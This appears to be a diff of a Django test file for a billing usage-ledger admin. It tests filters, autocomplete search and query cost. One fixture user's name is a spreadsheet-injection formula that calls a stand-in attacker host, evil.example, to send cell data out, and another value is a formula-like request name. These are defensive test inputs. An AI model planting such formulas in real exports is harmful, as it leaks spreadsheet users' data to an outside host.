@@ -1,11 +1,200 @@
-"""The usage ledger in the admin: its filters, its CSV export and the admin's frame (title, icon)."""
+"""The usage ledger in the admin: its filters and the admin's frame (title, icon).
+
+The cast: carol (team Acme, key "ci") and dave (team Globex, key "batch")
+call through the registry's route `auto`; dave also calls a model that has
+no price, and fails once on route `coding`; mallory, in no team, gives
+herself and her request names that a spreadsheet would run as formulas.
+"""
 
 from __future__ import annotations
 
+import datetime as dt
+import re
+from dataclasses import dataclass
+from decimal import Decimal
+from typing import Any
+
 import pytest
-from django.test import Client
+from django.contrib import admin
+from django.contrib.auth import get_user_model
+from django.db import connection
+from django.test import Client, RequestFactory
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+
+from billing.models import ApiKey, Team, UsageRecord
+from billing.money import usage_cost
+from billing.services import api_key_create
+from routing.models import LanguageModel, Provider, Route
 
 pytestmark = pytest.mark.django_db
+
+CHANGELIST = reverse("admin:billing_usagerecord_changelist")
+WHEN = dt.datetime(2026, 11, 30, 23, 59, 58, 123456, tzinfo=dt.UTC)
+
+
+@dataclass
+class Cast:
+    carol: Any
+    dave: Any
+    mallory: Any
+    acme: Team
+    globex: Team
+    ci: ApiKey
+    batch: ApiKey
+
+
+@pytest.fixture
+def cast() -> Cast:
+    users = get_user_model().objects
+    carol, dave = users.create_user("carol"), users.create_user("dave")
+    mallory = users.create_user('=HYPERLINK("https://evil.example/?"&A1)')
+    acme = Team.objects.create(name="Acme", slug="acme")
+    globex = Team.objects.create(name="Globex", slug="globex")
+    ci, _ = api_key_create(user=carol, name="ci", team=acme)
+    batch, _ = api_key_create(user=dave, name="batch", team=globex)
+    sim = Provider.objects.create(name="sim", kind=Provider.Kind.SIMULATED)
+    LanguageModel.objects.create(
+        public_id="sim/quick", provider=sim, upstream_name="quick", context_window=8_000, max_output_tokens=1_000
+    )
+    Route.objects.create(name="auto")
+    Route.objects.create(name="coding")
+    return Cast(carol, dave, mallory, acme, globex, ci, batch)
+
+
+def record(request_id: str, user: Any, **fields: Any) -> UsageRecord:
+    """A record of an answered call to sim/quick through `auto`, booked at $1 / $4 per million tokens."""
+    prices = {"input_price_per_million": Decimal("1.000000"), "output_price_per_million": Decimal("4.000000")}
+    if fields.get("cost_usd", ...) is None:
+        prices = {"input_price_per_million": None, "output_price_per_million": None}
+    defaults = {
+        "created_at": WHEN,
+        "requested": "auto",
+        "route": "auto",
+        "model": "sim/quick",
+        "provider": "sim",
+        "status": UsageRecord.Status.OK,
+        "input_tokens": 1_234,
+        "output_tokens": 567,
+        "latency_ms": 812,
+        "ttft_ms": 95,
+        "cost_usd": usage_cost(
+            input_tokens=1_234,
+            output_tokens=567,
+            input_per_million=Decimal("1.000000"),
+            output_per_million=Decimal("4.000000"),
+        ),
+    }
+    return UsageRecord.objects.create(request_id=request_id, user=user, **(defaults | prices | fields))
+
+
+@pytest.fixture
+def ledger(cast: Cast) -> Cast:
+    record("chatcmpl-carol", cast.carol, team=cast.acme, api_key=cast.ci, tokens_estimated=True)
+    record(
+        "chatcmpl-dave-failed",
+        cast.dave,
+        team=cast.globex,
+        api_key=cast.batch,
+        requested="coding",
+        route="coding",
+        model="",
+        provider="",
+        status=UsageRecord.Status.ERROR,
+        error_kind="rate_limited",
+        input_tokens=0,
+        output_tokens=0,
+        ttft_ms=None,
+        cost_usd=None,
+    )
+    record(
+        "pg-dave-unpriced",
+        cast.dave,
+        team=cast.globex,
+        source=UsageRecord.Source.PLAYGROUND,
+        requested="up/mystery",
+        route="",
+        model="up/mystery",
+        provider="up",
+        cost_usd=None,
+    )
+    record("chatcmpl-mallory", cast.mallory, requested="-2+3", created_at=WHEN - dt.timedelta(days=1))
+    return cast
+
+
+def listed(client: Client, query: str) -> list[str]:
+    response = client.get(CHANGELIST + query)
+    assert response.status_code == 200
+    return [row.request_id for row in response.context["cl"].result_list]
+
+
+def test_each_filter_narrows_the_list(admin_client: Client, ledger: Cast) -> None:
+    assert set(listed(admin_client, f"?team__id__exact={ledger.acme.pk}")) == {"chatcmpl-carol"}
+    assert set(listed(admin_client, f"?user__id__exact={ledger.dave.pk}")) == {
+        "chatcmpl-dave-failed",
+        "pg-dave-unpriced",
+    }
+    assert set(listed(admin_client, f"?api_key__id__exact={ledger.batch.pk}")) == {"chatcmpl-dave-failed"}
+    assert set(listed(admin_client, "?model=sim/quick")) == {"chatcmpl-carol", "chatcmpl-mallory"}
+    assert set(listed(admin_client, "?route=coding")) == {"chatcmpl-dave-failed"}
+    assert set(listed(admin_client, "?status=error")) == {"chatcmpl-dave-failed"}
+    assert set(listed(admin_client, "?status=ok")) == {"chatcmpl-carol", "pg-dave-unpriced", "chatcmpl-mallory"}
+    # Answered at no known price; the failed call, which has no model and no cost, is not "unpriced".
+    assert set(listed(admin_client, "?status=unpriced")) == {"pg-dave-unpriced"}
+    assert set(listed(admin_client, "?provider=up&source=playground")) == {"pg-dave-unpriced"}
+    assert listed(admin_client, f"?user__id__exact={ledger.dave.pk}&status=unpriced") == ["pg-dave-unpriced"]
+
+
+def test_the_model_route_and_provider_filters_list_the_registry_and_keep_a_value_it_no_longer_has(
+    admin_client: Client, ledger: Cast
+) -> None:
+    def choices(query: str, title: str) -> list[str]:
+        page = admin_client.get(CHANGELIST + query)
+        spec = next(spec for spec in page.context["cl"].filter_specs if spec.title == title)
+        return [value for value, _ in spec.lookup_choices]
+
+    assert choices("", "model") == ["sim/quick"]
+    assert choices("", "route") == ["auto", "coding"]
+    assert choices("", "provider") == ["sim"]
+    assert choices("?model=up/mystery", "model") == ["sim/quick", "up/mystery"]
+    assert listed(admin_client, "?model=up/mystery") == ["pg-dave-unpriced"]
+
+
+def test_the_user_team_and_key_filters_search_instead_of_listing_and_show_the_one_chosen(
+    admin_client: Client, ledger: Cast
+) -> None:
+    page = admin_client.get(f"{CHANGELIST}?status=ok&user__id__exact={ledger.dave.pk}").content.decode()
+
+    assert f'<option value="{ledger.dave.pk}" selected>dave</option>' in page
+    assert ">carol</option>" not in page
+    assert 'data-model-name="usagerecord" data-field-name="user"' in page
+    # Choosing another user keeps the other filters, and replaces the user chosen before.
+    forms = re.findall(r'<form method="get" class="autocomplete-filter">(.*?)</form>', page, re.S)
+    user_form = next(form for form in forms if 'data-field-name="user"' in form)
+    assert re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]+)">', user_form) == [("status", "ok")]
+    assert 'data-field-name="team"' in page and 'data-field-name="api_key"' in page
+    assert "/static/js/admin-autocomplete-filter.js" in page
+    # What the search box asks: the admin's own autocomplete, here for the users whose name starts with "da".
+    found = admin_client.get(
+        reverse("admin:autocomplete"),
+        {"app_label": "billing", "model_name": "usagerecord", "field_name": "user", "term": "da"},
+    )
+    assert found.json()["results"] == [{"id": str(ledger.dave.pk), "text": "dave"}]
+
+
+def test_the_filters_read_no_distinct_values_of_the_ledger(rf: RequestFactory, admin_user: Any, ledger: Cast) -> None:
+    """What keeps them cheap on millions of records: their choices come from small tables, with no count each."""
+    request = rf.get(CHANGELIST)
+    request.user = admin_user
+
+    with CaptureQueriesContext(connection) as queries:
+        changelist = admin.site.get_model_admin(UsageRecord).get_changelist_instance(request)
+
+    assert [spec.title for spec in changelist.filter_specs] == [
+        "status", "team", "user", "API key", "model", "route", "provider", "source",
+    ]  # fmt: skip
+    assert not any("DISTINCT" in query["sql"].upper() for query in queries), [q["sql"] for q in queries]
+    assert not changelist.add_facets and not changelist.is_facets_optional
 
 
 def test_the_admin_is_titled_switchyard(admin_client: Client) -> None:
